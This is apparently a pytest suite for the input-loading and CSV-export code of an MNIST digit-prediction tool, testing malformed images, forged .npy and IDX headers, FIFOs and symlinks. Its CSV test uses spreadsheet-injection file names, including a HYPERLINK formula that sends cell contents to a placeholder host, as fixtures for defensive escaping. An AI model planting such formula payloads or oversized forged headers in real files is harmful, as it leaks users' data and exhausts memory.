"""Reading the inputs of `mnist-pipeline predict`: pictures, IDX, .npy, directories (no model)."""

from __future__ import annotations

import contextlib
import csv
import gzip
import io
import os
import subprocess
import sys
import threading
import tracemalloc
from pathlib import Path

import numpy as np
import pytest
from PIL import Image

from mnist_pipeline import idx
from mnist_pipeline.app import predict

# --- pictures ----------------------------------------------------------------------------


@pytest.mark.parametrize("content", [b"", b"not an image", b"\x89PNG\r\n\x1a\n truncated"])
def test_unreadable_picture_names_the_file(tmp_path: Path, content: bytes) -> None:
    path = tmp_path / "broken.png"
    path.write_bytes(content)
    with pytest.raises(predict.InputError, match=r"broken\.png: not a readable image"):
        predict.load_input(path)


# --- batches: IDX and .npy ---------------------------------------------------------------


def test_idx_raw_and_gzip(tmp_path: Path, digits: np.ndarray) -> None:
    data = idx.encode(digits[:5].astype(np.uint8))
    (tmp_path / "images-idx3-ubyte").write_bytes(data)
    (tmp_path / "images-idx3-ubyte.gz").write_bytes(gzip.compress(data))
    for name in ("images-idx3-ubyte", "images-idx3-ubyte.gz"):
        images = predict.load_input(tmp_path / name)
        assert images.dtype == np.float32
        np.testing.assert_array_equal(images, digits[:5])


def test_idx_labels_file_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "labels-idx1-ubyte"
    path.write_bytes(idx.encode(np.arange(10, dtype=np.uint8)))
    with pytest.raises(predict.InputError, match=r"labels-idx1-ubyte.*\(N, 28, 28\)"):
        predict.load_input(path)


@pytest.mark.parametrize("dtype", [np.uint8, np.float64, np.float32, np.int64])
def test_npy_is_read_on_0_to_255_whatever_its_dtype(tmp_path: Path, digits: np.ndarray,
                                                     dtype: type) -> None:
    np.save(tmp_path / "batch.npy", digits[:4].astype(dtype))
    np.testing.assert_array_equal(predict.load_input(tmp_path / "batch.npy"), digits[:4])


@pytest.mark.parametrize("array", [
    np.zeros((3, 28, 28), np.uint8),  # empty fields
    (np.arange(2 * 784).reshape(2, 28, 28) % 2).astype(np.uint8),  # 0/1 on 0..255: no ink
    (np.arange(2 * 784).reshape(2, 28, 28) % 2).astype(np.float32),  # 0.0/1.0: the same
], ids=["zeros", "binary-ints", "binary-floats"])
def test_blank_npy_digits_are_refused_as_blank_pictures_are(tmp_path: Path,
                                                            array: np.ndarray) -> None:
    np.save(tmp_path / "blank.npy", array)
    with pytest.raises(predict.BlankDigitError, match=r"blank\.npy: blank image: no digit "
                       r"found \(\d+ digits, the first 0 of \d+; pixels are read on 0\.\.255"):
        predict.load_input(tmp_path / "blank.npy")


def test_unit_scale_npy_is_refused_saying_how_to_read_it(tmp_path: Path,
                                                         digits: np.ndarray) -> None:
    """data/prepared's [0, 1] arrays are not guessed at: refused, with what to do."""
    np.save(tmp_path / "prepared.npy", digits[:4] / 255.0)
    with pytest.raises(predict.BlankDigitError, match=r"multiply \[0, 1\] values by 255"):
        predict.load_input(tmp_path / "prepared.npy")
    one_blank = digits[:4].copy()
    one_blank[2] = 0
    np.save(tmp_path / "one.npy", one_blank)
    with pytest.raises(predict.BlankDigitError, match=r"\(digit 2 of 4;"):
        predict.load_input(tmp_path / "one.npy")


@pytest.mark.parametrize("array, reason", [
    (np.zeros((28, 28), dtype=np.uint8), r"shape \(N, 28, 28\)"),
    (np.zeros((2, 32, 32), dtype=np.uint8), r"shape \(N, 28, 28\)"),
    (np.full((1, 28, 28), 300.0), "outside 0..255"),
    (np.full((1, 28, 28), np.nan), "NaN"),
    (np.array([["a"]]), "shape"),
])
def test_bad_npy_is_refused(tmp_path: Path, array: np.ndarray, reason: str) -> None:
    np.save(tmp_path / "bad.npy", array)
    with pytest.raises(predict.InputError, match=rf"bad\.npy: .*{reason}"):
        predict.load_input(tmp_path / "bad.npy")


def test_pickled_npy_is_not_unpickled(tmp_path: Path) -> None:
    np.save(tmp_path / "objects.npy", np.array([{"a": 1}], dtype=object), allow_pickle=True)
    with pytest.raises(predict.InputError, match="objects.npy: not a readable .npy"):
        predict.load_input(tmp_path / "objects.npy")


# --- inputs, rows, CSV -------------------------------------------------------------------


def test_a_directory_of_a_looping_link_says_what_it_is(tmp_path: Path) -> None:
    folder = tmp_path / "scans"
    folder.mkdir()
    (folder / "loop.png").symlink_to("loop.png")
    loaded, errors = predict.load_inputs([folder])
    assert not loaded
    assert [str(error) for error in errors] == [
        f"{folder / 'loop.png'}: cannot read (Too many levels of symbolic links)"]
    (folder / "sub.png").mkdir()  # a folder named like a picture is not one
    assert predict.expand_inputs([folder])[0] == [folder / "loop.png"]


def test_directories_expand_to_sorted_pictures(tmp_path: Path) -> None:
    for name in ("b.png", "a.JPG", "c.txt", "d.jpeg"):
        (tmp_path / name).touch()
    (tmp_path / "nested").mkdir()
    (tmp_path / "empty").mkdir()
    files, errors = predict.expand_inputs([tmp_path, tmp_path / "x.npy", tmp_path / "empty"])
    assert [path.name for path in files] == ["a.JPG", "b.png", "d.jpeg", "x.npy"]
    assert len(errors) == 1 and "empty: directory has no" in str(errors[0])


def test_load_inputs_keeps_going_after_errors(tmp_path: Path, digits: np.ndarray) -> None:
    np.save(tmp_path / "good.npy", digits[:3].astype(np.uint8))
    loaded, errors = predict.load_inputs([tmp_path / "missing.png", tmp_path / "good.npy"])
    assert [item.name for item in loaded] == [str(tmp_path / "good.npy")]
    assert [str(error) for error in errors] == [f"{tmp_path / 'missing.png'}: no such file"]


# --- what an input may claim or unpack ---------------------------------------------------


def npy_claiming(shape: tuple[int, ...], data: bytes) -> bytes:
    """A .npy file of uint8 whose header claims ``shape``, followed by ``data``."""
    header = np.lib.format.header_data_from_array_1_0(np.zeros((1, 28, 28), np.uint8))
    stream = io.BytesIO()
    np.lib.format.write_array_header_1_0(stream, {**header, "shape": shape})
    return stream.getvalue() + data


def test_forged_npy_header_is_refused_before_allocating(tmp_path: Path, digits: np.ndarray) -> None:
    forged = tmp_path / "forged.npy"  # 6 KB that claim (10**9, 28, 28): 784 GB
    forged.write_bytes(npy_claiming((10**9, 28, 28), digits[:8].astype(np.uint8).tobytes()))
    good = tmp_path / "good.npy"
    np.save(good, digits[:3].astype(np.uint8))
    tracemalloc.start()
    try:
        loaded, errors = predict.load_inputs([forged, good])
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert [item.name for item in loaded] == [str(good)]
    assert [str(error) for error in errors] == [
        f"{forged}: 1,000,000,000 digits; at most 100,000 per input are read (split the file)"
    ]
    assert peak < 1 << 20


def test_npy_claiming_more_than_it_holds_is_truncated(tmp_path: Path, digits: np.ndarray) -> None:
    path = tmp_path / "short.npy"
    path.write_bytes(npy_claiming((1000, 28, 28), digits[:10].astype(np.uint8).tobytes()))
    with pytest.raises(predict.InputError, match=r"short\.npy: truncated: header says shape "
                                                 r"\(1000, 28, 28\) of uint8 \(784,000 bytes"):
        predict.load_input(path)


def test_batches_over_the_digit_limit_are_refused(
    tmp_path: Path, digits: np.ndarray, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(predict, "MAX_DIGITS_PER_INPUT", 5)
    np.save(tmp_path / "ten.npy", digits[:10].astype(np.uint8))
    (tmp_path / "ten-idx3-ubyte.gz").write_bytes(gzip.compress(idx.encode(
        digits[:10].astype(np.uint8))))
    with pytest.raises(predict.InputError, match="ten.npy: 10 digits; at most 5 per input"):
        predict.load_input(tmp_path / "ten.npy")
    with pytest.raises(predict.InputError, match=r"\(7,840 bytes\), more than the 3,920 allowed"):
        predict.load_input(tmp_path / "ten-idx3-ubyte.gz")


def test_idx_header_claiming_too_much_is_refused_unread(tmp_path: Path) -> None:
    # A gzip IDX whose header claims a million digits (784 MB) is refused before unpacking.
    path = tmp_path / "huge-idx3-ubyte.gz"
    path.write_bytes(gzip.compress(bytes([0, 0, 8, 3]) + (10**6).to_bytes(4, "big")
                                   + bytes([0, 0, 0, 28]) * 2 + bytes(10_000)))
    with pytest.raises(predict.InputError, match=r"huge-idx3-ubyte.gz: header says shape "
                                                 r"\(1000000, 28, 28\) \(784,000,000 bytes\)"):
        predict.load_input(path)


@pytest.mark.skipif(not Path("/dev/zero").exists(), reason="no /dev/zero")
def test_dev_zero_is_refused_at_once() -> None:
    # In a child with 1 GB of address space, so that a reader that reads it all fails fast.
    code = (
        "import resource, sys\n"
        "resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))\n"
        "from mnist_pipeline.app import predict\n"
        "loaded, errors = predict.load_inputs(['/dev/zero'])\n"
        "print(*errors, sep='\\n')\n"
    )
    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                            timeout=120)
    assert result.returncode == 0, result.stderr[-500:]
    assert result.stdout.startswith("/dev/zero: bad magic number 0x00000000")


# --- files that are not plain files ------------------------------------------------------


def test_symlink_loop_and_broken_link_say_so(tmp_path: Path) -> None:
    (tmp_path / "loop.png").symlink_to("loop.png")
    (tmp_path / "dangling.png").symlink_to("nowhere.png")
    with pytest.raises(predict.InputError,
                       match=r"loop\.png: cannot read \(Too many levels of symbolic links\)"):
        predict.load_input(tmp_path / "loop.png")
    with pytest.raises(predict.InputError, match=r"dangling\.png: broken symbolic link"):
        predict.load_input(tmp_path / "dangling.png")


@pytest.mark.parametrize("kind", ["picture", "npy", "idx.gz"])
def test_a_fifo_is_read_like_a_file(tmp_path: Path, digits: np.ndarray, kind: str) -> None:
    """A pipe (`<(cat digit.png)`, a FIFO) can be read once: sniffing must not consume it."""
    regular = tmp_path / "regular"
    if kind == "picture":
        Image.fromarray(255 - digits[4].astype(np.uint8)).resize((90, 90)).save(regular, "PNG")
    elif kind == "npy":
        with open(regular, "wb") as stream:
            np.save(stream, digits[:3].astype(np.uint8))
    else:
        regular.write_bytes(gzip.compress(idx.encode(digits[:3].astype(np.uint8))))
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)

    def feed() -> None:  # one writer, one pass, as `cat` behind `<(...)`
        with contextlib.suppress(BrokenPipeError), open(fifo, "wb") as stream:
            stream.write(regular.read_bytes())

    results: list[object] = []

    def read() -> None:
        try:
            results.append(predict.load_input(fifo))
        except predict.InputError as error:
            results.append(error)

    threads = [threading.Thread(target=target, daemon=True) for target in (feed, read)]
    for thread in threads:
        thread.start()
    threads[1].join(timeout=30)
    if threads[1].is_alive():  # blocked opening the FIFO again: let it see an empty pipe
        os.close(os.open(fifo, os.O_WRONLY | os.O_NONBLOCK))
        threads[1].join(timeout=10)
    assert len(results) == 1 and isinstance(results[0], np.ndarray), results
    np.testing.assert_array_equal(results[0], predict.load_input(regular))


def test_other_picture_formats_are_named(tmp_path: Path, digits: np.ndarray) -> None:
    frames = [Image.fromarray(digit.astype(np.uint8)) for digit in digits[:3]]
    frames[0].save(tmp_path / "animated.gif", save_all=True, append_images=frames[1:])
    with pytest.raises(predict.InputError) as caught:
        predict.load_input(tmp_path / "animated.gif")
    assert str(caught.value) == (
        f"{tmp_path / 'animated.gif'}: a GIF picture; only PNG and JPEG are read (save it as PNG)"
    )


# --- CSV that a spreadsheet opens safely ----------------------------------------------------


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralized() -> None:
    names = ['=HYPERLINK("http://x.example/?"&A1,"open me").png', "+1.png", "-2.npy",
             "@SUM(A1).png", "\tcmd.png", "\rcmd.png", "scans/=1+1.png", "a'b,c.png", "7.png",
             "a.png\r=2+2"]
    inputs = [predict.LoadedInput(name, np.zeros((1, 28, 28), np.float32)) for name in names]
    probabilities = np.full((len(names), 10), 0.01, np.float32)
    probabilities[:, 3] = 0.91
    text = predict.format_csv(predict.prediction_rows(inputs, probabilities))
    assert text.splitlines()[:2] == [
        "input,index,label,confidence,uncertain",
        '"\'=HYPERLINK(""http://x.example/?""&A1,""open me"").png",0,3,0.9100,true']
    rows = list(csv.reader(io.StringIO(text)))[1:]
    assert [row[0] for row in rows] == [
        '\'=HYPERLINK("http://x.example/?"&A1,"open me").png', "'+1.png", "'-2.npy",
        "'@SUM(A1).png", "'\tcmd.png", "'\rcmd.png", "scans/=1+1.png", "a'b,c.png", "7.png",
        "a.png\r=2+2"]  # one cell: the carriage return does not start a row
    assert all(row[1:] == ["0", "3", "0.9100", "true"] for row in rows)  # numbers as numbers


# --- a folder of scans as people have them ----------------------------------------------


def test_a_folder_of_scans_is_read_without_options_and_a_page_of_digits_refused(
        tmp_path: Path, sample_digits) -> None:
    """Scans at their own sizes (16 to 2000 px), binary or gray, dark on light or light on
    dark, PNG and JPEG: each read as its digit; a page of two digits: one clear error."""
    from sample_data import correlation
    from scan_pictures import scan_of, side_by_side

    from mnist_pipeline.digit_image import normalize_digit

    images, labels = sample_digits
    folder = tmp_path / "scans"
    folder.mkdir()
    made = {}
    for number, (size, binary, dark_on_light, suffix) in enumerate([
            (16, False, True, ".png"), (16, True, False, ".png"), (32, True, True, ".png"),
            (120, False, False, ".jpg"), (640, True, True, ".png"), (2000, False, True, ".jpg")]):
        digit = images[np.flatnonzero(labels == number)[5]]
        name = f"scan_{number}_{size}px{suffix}"
        Image.fromarray(scan_of(digit, size, dark_on_light, binary).astype(np.uint8)).save(
            folder / name, quality=95)
        made[str(folder / name)] = digit
    two = [images[np.flatnonzero(labels == digit)[5]] for digit in (3, 8)]
    Image.fromarray((255 - side_by_side(two, 0.6)).astype(np.uint8)).save(folder / "page.png")

    loaded, errors = predict.load_inputs([folder])
    assert [str(error) for error in errors] == [
        f"{folder / 'page.png'}: several digits: 2 separate marks of a digit's size, apart "
        "from each other; predict reads one digit a picture: crop each digit into a picture "
        "of its own"]
    assert sorted(item.name for item in loaded) == sorted(made)
    for item in loaded:
        assert item.images.shape == (1, 28, 28)
        reference = normalize_digit(made[item.name].astype(np.float32))
        assert correlation(item.images[0], reference) > 0.5, item.name


def test_serve_refuses_a_page_of_digits_as_predict_does(small_model, sample_digits) -> None:
    from fastapi.testclient import TestClient
    from scan_pictures import side_by_side

    from mnist_pipeline.app import api

    images, labels = sample_digits
    two = [images[np.flatnonzero(labels == digit)[5]] for digit in (3, 8)]
    buffer = io.BytesIO()
    Image.fromarray((255 - side_by_side(two, 0.6)).astype(np.uint8)).save(buffer, format="PNG")
    one = io.BytesIO()
    Image.fromarray((255 - side_by_side(two[:1], 0.6)).astype(np.uint8)).save(one, format="PNG")
    with TestClient(api.create_app(small_model.onnx_path)) as client:
        refused = client.post("/predict", files={"file": ("page.png", buffer.getvalue())})
        answered = client.post("/predict", files={"file": ("digit.png", one.getvalue())})
    assert refused.status_code == 400 and "several digits: 2" in refused.text
    assert answered.status_code == 200 and answered.json()["label"] in range(10)
